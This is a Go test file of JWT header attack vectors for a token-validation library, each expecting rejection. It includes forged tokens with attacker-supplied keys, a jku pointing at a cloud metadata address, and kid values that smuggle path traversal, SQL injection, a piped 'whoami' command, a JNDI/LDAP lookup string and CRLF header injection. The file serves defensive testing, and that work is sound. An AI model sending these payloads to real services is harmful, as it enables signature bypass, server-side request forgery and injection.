package vectors_test

import (
	"encoding/base64"
	"fmt"
	"strings"

	"toolgate/shared/auth"
)

// brought are keys and places of keys that a header brings along: none has a say (RFC
// 8725, 3.10).
func brought() []vector {
	stranger := func(comment, members string, want auth.Kind, door bool) vector {
		return vector{group: "key in the header", comment: comment, want: want, door: door, token: func(m *mint) string {
			header := fmt.Sprintf(`{"alg":"RS256",%s}`, strings.ReplaceAll(members, "ISSUER", m.issuer))
			return m.with("RS256", strangerRSA(), header, m.claims())
		}}
	}
	private := jwk("r", strangerRSA())
	return []vector{
		stranger("jwk", `"jwk":`+jwk("r", &strangerRSA().PublicKey), auth.TokenSignatureInvalid, true),
		stranger("jwk and the kid of the provider's", `"kid":"r","jwk":`+jwk("r", &strangerRSA().PublicKey), auth.TokenSignatureInvalid, true),
		stranger("jwk, private", `"jwk":`+private, auth.JwtInvalid, false),
		stranger("jwk, a secret", `"jwk":{"kty":"oct","k":"AAAA"}`, auth.JwtInvalid, false),
		stranger("jwk, an array", `"jwk":[]`, auth.JwtInvalid, false),
		stranger("jku", `"jku":"https://contoso.com/keys"`, auth.TokenSignatureInvalid, true),
		stranger("jku of the provider's own machine", `"jku":"ISSUER/../evil/keys"`, auth.TokenSignatureInvalid, false),
		stranger("jku of a metadata service", `"jku":"http://169.254.169.254/latest"`, auth.TokenSignatureInvalid, false),
		stranger("x5u", `"x5u":"https://contoso.com/cert.pem"`, auth.TokenSignatureInvalid, true),
		stranger("x5c that is none", `"x5c":["`+base64.StdEncoding.EncodeToString(pkix(&strangerRSA().PublicKey))+`"]`, auth.JwtInvalid, false),
		stranger("x5t of nobody", `"x5t":"AAAAAAAAAAAAAAAAAAAAAAAAAAA"`, auth.TokenSignatureInvalid, false),
		stranger("nonce that is no text", `"nonce":{}`, auth.JwtInvalid, false),
		{group: "key in the header", comment: "jwk of the provider's own key", token: func(m *mint) string { return m.members(`"jwk":` + jwk("r", &rsaKey().PublicKey)) }},
		{group: "key in the header", comment: "jku and x5u in a token that is valid without them", door: true, token: func(m *mint) string {
			return m.members(`"jku":"https://contoso.com/keys","x5u":"https://contoso.com/cert"`)
		}},
	}
}

// kids are names of keys (RFC 8725, 3.10).
func kids() []vector {
	of := func(comment, kid string, want auth.Kind, door bool) vector {
		return vector{group: "kid", comment: comment, want: want, door: door, token: func(m *mint) string { return m.members(`"kid":` + kid) }}
	}
	injected := func(comment, kid string) vector {
		return vector{group: "kid", comment: comment, want: auth.TokenSignatureInvalid, token: func(m *mint) string {
			return m.with("HS256", []byte{0}, fmt.Sprintf(`{"alg":"HS256","kid":%q}`, kid), m.claims())
		}}
	}
	return []vector{
		injected("a path to an empty file", "../../../../../../dev/null"),
		injected("a path on Windows", `..\..\windows\win.ini`),
		injected("SQL", "x' UNION SELECT 'AA"),
		injected("a command", "key.pem|whoami"),
		injected("a template", "${jndi:ldap://contoso.com/a}"),
		injected("a URL", "https://contoso.com/key"),
		injected("a line break", "r\r\nX-Admin: 1"),
		of("unknown", `"x"`, auth.TokenSignatureKeyNotFound, true),
		of("with a zero byte", `"r\u0000"`, auth.TokenSignatureKeyNotFound, false),
		of("in upper case", `"R"`, auth.TokenSignatureKeyNotFound, true),
		of("with a space", `"r "`, auth.TokenSignatureKeyNotFound, false),
		of("very long", `"`+strings.Repeat("r", 40_000)+`"`, auth.TokenSignatureKeyNotFound, false),
		of("a number", `1`, auth.JwtInvalid, true),
		of("an array", `["r"]`, auth.JwtInvalid, false),
		of("an object", `{"r":"r"}`, auth.JwtInvalid, false),
		of("of another algorithm's key", `"e"`, auth.TokenSignatureInvalid, true),
		of("empty, which is none", `""`, "", true),
		of("null, which is none", `null`, "", false),
		of("written with escapes", `"\u0072"`, "", false),
		{group: "kid", comment: "none, of several keys", door: true, token: func(m *mint) string { return m.raw("RS256", `{"alg":"RS256"}`, m.claims()) }},
		{
			group: "kid", comment: "none, of several keys of one algorithm",
			keys:  keySet(jwk("a", &strangerRSA().PublicKey), jwk("b", &rsaKey().PublicKey)),
			token: func(m *mint) string { return m.raw("RS256", `{"alg":"RS256"}`, m.claims()) },
		},
	}
}

// extensions are headers that change what the signature is of, or that differ between
// readers (RFC 7515, 4 and 4.1.11; RFC 7797).
func extensions() []vector {
	with := func(comment, members string, want auth.Kind, door bool) vector {
		return vector{group: "header", comment: comment, want: want, door: door, token: func(m *mint) string { return m.members(members) }}
	}
	text := func(comment, header string, want auth.Kind) vector {
		return vector{group: "header", comment: comment, want: want, token: func(m *mint) string { return m.raw("RS256", header, m.claims()) }}
	}
	return []vector{
		with("crit of something unknown", `"crit":["http://contoso.com/x"],"http://contoso.com/x":true`, auth.JwtInvalid, true),
		with("crit of a claim", `"crit":["exp"],"exp":1`, auth.JwtInvalid, false),
		with("crit of what is not there", `"crit":["b64"]`, auth.JwtInvalid, false),
		with("crit of registered names", `"crit":["alg"]`, auth.JwtInvalid, false),
		with("empty crit", `"crit":[]`, auth.JwtInvalid, false),
		with("crit is no list", `"crit":"exp"`, auth.JwtInvalid, false),
		with("crit is null", `"crit":null`, auth.JwtInvalid, false),
		with("crit twice in one list", `"crit":["exp","exp"],"exp":1`, auth.JwtInvalid, false),
		with("b64 is false", `"b64":false,"crit":["b64"]`, auth.JwtInvalid, true),
		with("b64 is false, not critical", `"b64":false`, auth.JwtInvalid, false),
		with("b64 is true", `"b64":true,"crit":["b64"]`, auth.JwtInvalid, false),
		with("alg twice", `"alg":"none"`, auth.JwtInvalid, true),
		with("kid twice", `"kid":"r","kid":"e"`, auth.JwtInvalid, false),
		with("alg twice, once with escapes", `"\u0061lg":"none"`, auth.JwtInvalid, false),
		with("a name that nobody knows twice", `"x":1,"x":1`, auth.JwtInvalid, false),
		with("zip in a signed token", `"zip":"DEF"`, "", false),
		text("bad UTF-8", "{\"alg\":\"RS256\",\"x\":\"\xff\"}", auth.JwtInvalid),
		text("half a surrogate pair", `{"alg":"RS256","x":"\ud800"}`, auth.JwtInvalid),
		text("byte order mark", "\ufeff{\"alg\":\"RS256\"}", auth.JwtInvalid),
		text("two objects", `{"alg":"RS256"}{"alg":"none"}`, auth.JwtInvalid),
		text("comment", `{"alg":"RS256"/**/}`, auth.JwtInvalid),
		text("comma at the end", `{"alg":"RS256",}`, auth.JwtInvalid),
		text("single quotes", `{'alg':'RS256'}`, auth.JwtInvalid),
		text("an array", `["RS256"]`, auth.JwtInvalid),
		text("null", `null`, auth.TokenSignatureInvalid),
		text("empty", ``, auth.JwtInvalid),
		text("deep", `{"alg":"RS256","x":`+strings.Repeat("[", 20_000)+strings.Repeat("]", 20_000)+`}`, auth.JwtInvalid),
	}
}
